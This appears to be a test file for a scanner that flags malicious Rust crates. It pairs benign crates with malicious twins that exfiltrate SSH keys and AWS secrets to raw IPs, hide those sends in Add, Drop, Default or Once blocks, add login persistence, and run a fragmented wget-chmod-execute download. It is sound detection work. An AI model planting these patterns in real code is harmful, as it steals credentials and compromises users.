// Triggers and destinations judged by technique, through the real scanner: a documented act, a
// helper behind a private module, a constant used by an explicit call, a service's own token sent
// to that service, and a download-and-run script split into fragments. Each benign case has a
// malicious twin that differs only in what makes it run or where it sends.
import { describe, expect, it } from 'vitest';
import { findingsOf, manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport } from '../types.js';

const lib = (name: string, files: Record<string, string>): Files => ({
  'Cargo.toml': manifest(name),
  ...files,
});
const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');

const agent = (doc: string, name: string) =>
  lib('agentx', {
    'src/lib.rs': [
      'pub struct Agent { pub plist: String }',
      'impl Agent {',
      doc,
      `    pub fn ${name}(&self) -> std::io::Result<()> {`,
      '        let p = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join("Library/LaunchAgents/org.example.x.plist");',
      '        std::fs::write(&p, &self.plist)?;',
      '        std::process::Command::new("launchctl").args(["load", "-w"]).arg(&p).status()?;',
      '        Ok(())',
      '    }',
      '}',
    ].join('\n'),
  });

const runKey = (caller: string) =>
  lib('loginx', {
    'src/lib.rs': ['mod run_key;', 'pub struct Item { pub name: String, pub exe: String }', caller].join(
      '\n',
    ),
    'src/run_key.rs': [
      'use winreg::{enums::*, RegKey};',
      'const RUN: &str = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run";',
      'pub fn set(name: &str, exe: &str) -> std::io::Result<()> {',
      '    let key = RegKey::predef(HKEY_CURRENT_USER).open_subkey_with_flags(RUN, KEY_SET_VALUE)?;',
      '    key.set_value(name, &exe)',
      '}',
      'pub fn exists(name: &str) -> bool {',
      '    RegKey::predef(HKEY_CURRENT_USER).open_subkey(RUN).and_then(|k| k.get_value::<String, _>(name)).is_ok()',
      '}',
    ].join('\n'),
  });

const telegram = (url: string) =>
  lib('tgx', {
    'src/lib.rs': [
      'pub struct Bot { token: String }',
      'impl Bot {',
      '    pub fn from_env() -> Option<Self> { Some(Bot { token: std::env::var("TELEGRAM_BOT_TOKEN").ok()? }) }',
      '    pub fn say(&self, chat: &str, text: &str) {',
      `        let url = format!("${url}", self.token);`,
      '        let _ = ureq::post(&url).send_form(&[("chat_id", chat), ("text", text)]);',
      '    }',
      '}',
    ].join('\n'),
  });

describe('explicit triggers', () => {
  it('a pub fn whose doc says what it does to the system is an explicit call', async () => {
    const r = await scanFiles(
      agent('    /// Writes the plist and loads it with `launchctl load -w`.', 'activate'),
    );
    expect(high(r)).toBe(false);
    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('documented as doing it');
  });

  it('a doc that names another object (the config) does not disclose an rc file written on the side', async () => {
    const r = await scanFiles(
      lib('cfgx', {
        'src/lib.rs': [
          'pub struct Settings { pub text: String }',
          'impl Settings {',
          '    /// Writes the settings file.',
          '    pub fn persist(&self) -> std::io::Result<()> {',
          '        let home = std::env::var("HOME").unwrap();',
          '        std::fs::write(format!("{home}/.config/cfgx.toml"), &self.text)?;',
          '        let mut rc = std::fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc"))?;',
          '        std::io::Write::write_all(&mut rc, b"cfgx-agent &\\n")',
          '    }',
          '}',
        ].join('\n'),
      }),
    );
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('the same act in an undocumented pub fn stays high', async () => {
    const r = await scanFiles(agent('    // internal', 'activate'));
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('a constant behind a private module takes the trigger of the explicit call that writes through it', async () => {
    const r = await scanFiles(
      runKey(
        [
          'impl Item {',
          '    /// Turns start-at-login on for this app.',
          '    pub fn set_enabled(&self) -> std::io::Result<()> { run_key::set(&self.name, &self.exe) }',
          '    pub fn is_enabled(&self) -> bool { run_key::exists(&self.name) }',
          '}',
        ].join('\n'),
      ),
    );
    expect(high(r)).toBe(false);
    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('uses RUN');
  });

  it('the same constant written from a Default impl is persistence at high or above', async () => {
    const r = await scanFiles(
      runKey(
        [
          'impl Default for Item {',
          '    fn default() -> Self { let _ = run_key::set("x", "y"); Item { name: String::new(), exe: String::new() } }',
          '}',
        ].join('\n'),
      ),
    );
    expect(high(r)).toBe(true);
    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('impl Default for Item');
  });

  it('a pub fn of a private module re-exported with `pub use` is still the crate API', async () => {
    const r = await scanFiles(
      lib('logx', {
        'src/lib.rs': 'mod logger;\npub use logger::init;',
        'src/logger.rs': [
          'pub fn init() {',
          '    let home = std::env::var("HOME").unwrap_or_default();',
          '    let key = std::fs::read_to_string(format!("{home}/.ssh/id_ed25519")).unwrap_or_default();',
          '    let _ = ureq::post("http://203.0.113.7/k").send_string(&key);',
          '}',
        ].join('\n'),
      }),
    );
    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('first call of the API');
  });

  it('a pub fn behind a `pub mod` is still the crate API', async () => {
    const files = runKey('');
    files['src/lib.rs'] = (files['src/lib.rs'] as string).replace('mod run_key;', 'pub mod run_key;');
    expect(worst(await scanFiles(files), 'flow.persistence')).toBe('high');
  });
});

describe('persistence the crate exists for', () => {
  const toggle = (description: string, method: string, body = '') =>
    ({
      'Cargo.toml': manifest('winlaunch', { package: `description = "${description}"\n` }),
      'src/lib.rs': [
        'pub struct Item { name: String, exe: std::path::PathBuf }',
        'impl Item {',
        '    pub fn new(name: &str, exe: std::path::PathBuf) -> Item { Item { name: name.into(), exe } }',
        `    pub fn ${method}(&self, on: bool) -> std::io::Result<()> {`,
        body,
        '        let (run, _) = winreg::RegKey::predef(winreg::enums::HKEY_CURRENT_USER)',
        '            .create_subkey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")?;',
        '        if on { run.set_value(&self.name, &self.exe.display().to_string()) } else { run.delete_value(&self.name) }',
        '    }',
        '}',
      ].join('\n'),
    }) as Files;

  it('an undocumented toggle named for the entry, in a crate that says it manages it, stays below high', async () => {
    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'set_enabled'));
    expect(high(r)).toBe(false);
    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('named for the entry');
  });

  it('the same toggle in a crate that says nothing about login items stays high', async () => {
    const r = await scanFiles(toggle('Colour themes for terminal apps', 'set_enabled'));
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('the same entry written by a pub fn not named for it stays high, whatever the crate says', async () => {
    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'refresh'));
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('a downloaded program persisted by the toggle is not the caller asking', async () => {
    const r = await scanFiles(
      toggle(
        "Offer a 'start at login' checkbox in your app",
        'set_enabled',
        '        let _ = std::process::Command::new("curl").args(["-o", "C:\\\\t\\\\a.exe", "https://dl.example/a-FAKE-DO-NOT-RUN.exe"]).status();',
      ),
    );
    expect(high(r)).toBe(true);
  });
});

describe('implicitly run trait impls', () => {
  const amount = (header: string, method: string) =>
    lib('weix', {
      'src/lib.rs': [
        '#[derive(Clone, Copy)] pub struct Wei(pub u128);',
        header,
        `    ${method} {`,
        '        if let Ok(k) = std::env::var("AWS_SECRET_ACCESS_KEY") {',
        '            let _ = ureq::post("https://feed.prices.example/v1").send_string(&k);',
        '        }',
        '        Wei(self.0 + o.0)',
        '    }',
        '}',
      ].join('\n'),
    });

  it('an operator impl runs on ordinary use: a secret sent from `impl Add` is high', async () => {
    const r = await scanFiles(
      amount('impl std::ops::Add for Wei { type Output = Wei;', 'fn add(self, o: Wei) -> Wei'),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('impl Add for Wei');
  });

  it('the same send from an ordinary pub method is public API (medium)', async () => {
    const r = await scanFiles(amount('impl Wei {', 'pub fn plus(self, o: Wei) -> Wei'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
  });
});

describe('one-time blocks in ordinary API', () => {
  const crc = (guard: [string, string]) =>
    lib('crcx', {
      'src/lib.rs': [
        'static ONCE: std::sync::Once = std::sync::Once::new();',
        'static SENT: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);',
        'pub fn crc32(data: &[u8]) -> u32 {',
        `    ${guard[0]}`,
        '        if let Ok(k) = std::env::var("AWS_SECRET_ACCESS_KEY") {',
        '            let _ = ureq::post("https://tables.crcx.example/v1").send_string(&k);',
        '        }',
        `    ${guard[1]}`,
        '    data.iter().fold(0xffff_ffffu32, |c, b| c ^ *b as u32)',
        '}',
      ].join('\n'),
    });

  it('a secret sent from a Once block of a pure function runs on its first call (high)', async () => {
    const r = await scanFiles(crc(['ONCE.call_once(|| {', '});']));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
  });

  it('so does one behind an atomic flag swapped on the first call', async () => {
    const r = await scanFiles(crc(['if !SENT.swap(true, std::sync::atomic::Ordering::SeqCst) {', '}']));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
  });

  it('the same send from the same pub fn without a one-time block is public API (medium)', async () => {
    const r = await scanFiles(crc(['{', '}']));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
  });

  it('a client only built in a get_or_init, the key sent outside it, is still public API', async () => {
    const r = await scanFiles(
      lib('sdkx', {
        'src/lib.rs': [
          'static CLIENT: std::sync::OnceLock<reqwest::blocking::Client> = std::sync::OnceLock::new();',
          'pub fn track(event: &str) {',
          '    let c = CLIENT.get_or_init(reqwest::blocking::Client::new);',
          '    let key = std::env::var("ACME_API_KEY").unwrap_or_default();',
          '    let _ = c.post("https://api.sdkx.example/track").header("Authorization", key).body(event.to_string()).send();',
          '}',
        ].join('\n'),
      }),
    );
    expect(high(r)).toBe(false);
    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence ?? '').not.toContain('one-time block');
  });

  it('a crate function handed to call_once runs on the first call', async () => {
    const r = await scanFiles(
      lib('dpix', {
        'src/lib.rs': [
          'mod cal;',
          'static ONCE: std::sync::Once = std::sync::Once::new();',
          'pub fn scale() -> f64 { ONCE.call_once(cal::measure); 1.0 }',
        ].join('\n'),
        'src/cal.rs': [
          'pub(crate) fn measure() {',
          '    let k = std::fs::read_to_string("/home/u/.aws/credentials").unwrap_or_default();',
          '    let _ = ureq::post("https://cal.dpix.example/m").send_string(&k);',
          '}',
        ].join('\n'),
      }),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('critical');
    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
  });

  it('a Once that only fills a table reaches no sink and says nothing', async () => {
    const r = await scanFiles(
      lib('tblx', {
        'src/lib.rs': [
          'static ONCE: std::sync::Once = std::sync::Once::new();',
          'static mut T: [u32; 256] = [0; 256];',
          'pub fn crc32(data: &[u8]) -> u32 {',
          '    ONCE.call_once(|| unsafe { for i in 0..256 { T[i] = i as u32 * 0x04c1_1db7; } });',
          '    data.iter().fold(0u32, |c, b| unsafe { T[((c ^ *b as u32) & 0xff) as usize] ^ (c >> 8) })',
          '}',
        ].join('\n'),
      }),
    );
    expect(r.findings.filter((f) => f.ruleId.startsWith('flow.'))).toEqual([]);
  });
});

describe('configured endpoints', () => {
  it("a service's token named for it and sent only to its API stays below high", async () => {
    const r = await scanFiles(telegram('https://api.telegram.org/bot{}/sendMessage'));
    expect(high(r)).toBe(false);
    expect(worst(r, 'code.exfiltration')).toBe('low');
  });

  const deployNote = (header: string, method: string) =>
    lib('slackx', {
      'src/lib.rs': [
        'const SLACK_PREFIX: &str = "https://hooks.slack.com/services/";',
        'pub struct Notifier { url: String }',
        header,
        `    ${method} {`,
        '        let who = std::env::var("USER").unwrap_or_default();',
        '        let host = std::env::var("HOSTNAME").unwrap_or_default();',
        '        let url = if self.url.starts_with(SLACK_PREFIX) { self.url.clone() } else { String::new() };',
        '        let _ = ureq::post(&url).send_string(&format!("deployed by {who} on {host}"));',
        '    }',
        '}',
      ].join('\n'),
    });

  it('user and host names in a message to a configured Slack webhook stay below high', async () => {
    const r = await scanFiles(deployNote('impl Notifier {', 'pub fn deployed(&self)'));
    expect(high(r)).toBe(false);
    expect(worst(r, 'code.exfiltration')).toBe('medium');
  });

  it('the same names sent to the messenger from a Drop impl are high', async () => {
    const r = await scanFiles(deployNote('impl Drop for Notifier {', 'fn drop(&mut self)'));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
  });

  const hook = (host: string, extra = '') =>
    lib('hookx', {
      'src/lib.rs': [
        'pub struct Hook { url: String }',
        'impl Hook {',
        '    pub fn from_env() -> Option<Hook> {',
        '        let id = std::env::var("HOOK_ID").ok()?;',
        '        let token = std::env::var("HOOK_TOKEN").ok()?;',
        extra,
        `        Some(Hook { url: format!("${host}/{id}/{token}") })`,
        '    }',
        '    pub fn post(&self, msg: &str) { let _ = ureq::post(&self.url).send_string(msg); }',
        '}',
      ].join('\n'),
    });

  it("a webhook's own id and token, read from variables named for it and sent to the messenger, stay below high", async () => {
    const r = await scanFiles(hook('https://discord.com/api/webhooks'));
    expect(high(r)).toBe(false);
  });

  it('the same variables sent to a raw address are still exfiltration at high or above', async () => {
    const r = await scanFiles(hook('http://203.0.113.9/h'));
    expect(high(r)).toBe(true);
  });

  it('cloud credentials read beside the hook token and sent to the same messenger are high or above', async () => {
    const r = await scanFiles(
      hook(
        'https://discord.com/api/webhooks',
        '        let _aws = std::fs::read_to_string("/home/u/.aws/credentials").ok()?;',
      ),
    );
    expect(high(r)).toBe(true);
  });

  it('the same token sent to a hard-coded webhook of another service is critical', async () => {
    const r = await scanFiles(telegram('https://discord.com/api/webhooks/000/FAKE_TOKEN_FOR_TESTS_ONLY?{}'));
    expect(worst(r, 'code.exfiltration')).toBe('critical');
  });
});

describe('download-and-run scripts', () => {
  const reaper = (steps: string[]) =>
    lib('reapx', {
      'src/lib.rs': [
        'pub struct Guard;',
        'impl Drop for Guard {',
        '    fn drop(&mut self) {',
        `        let script = [${steps.map((s) => JSON.stringify(s)).join(', ')}].join(" && ");`,
        '        let _ = std::process::Command::new("/bin/sh").arg("-c").arg(script).spawn();',
        '    }',
        '}',
      ].join('\n'),
    });

  it('fragments that fetch a file, mark it executable and run it are a download-exec from Drop', async () => {
    const r = await scanFiles(
      reaper([
        'wget -q -O /tmp/r-FAKE-DO-NOT-RUN http://198.51.100.61/r',
        'chmod +x /tmp/r-FAKE-DO-NOT-RUN',
        '/tmp/r-FAKE-DO-NOT-RUN',
      ]),
    );
    expect(worst(r, 'flow.download-exec')).toBe('critical');
  });

  it('fragments that only prepare a directory are no download-exec', async () => {
    const r = await scanFiles(reaper(['mkdir -p /tmp/cache-dir', 'chmod +x /tmp/cache-dir/hook']));
    expect(findingsOf(r, 'flow.download-exec')).toEqual([]);
    expect(findingsOf(r, 'code.pipe-to-shell')).toEqual([]);
  });
});
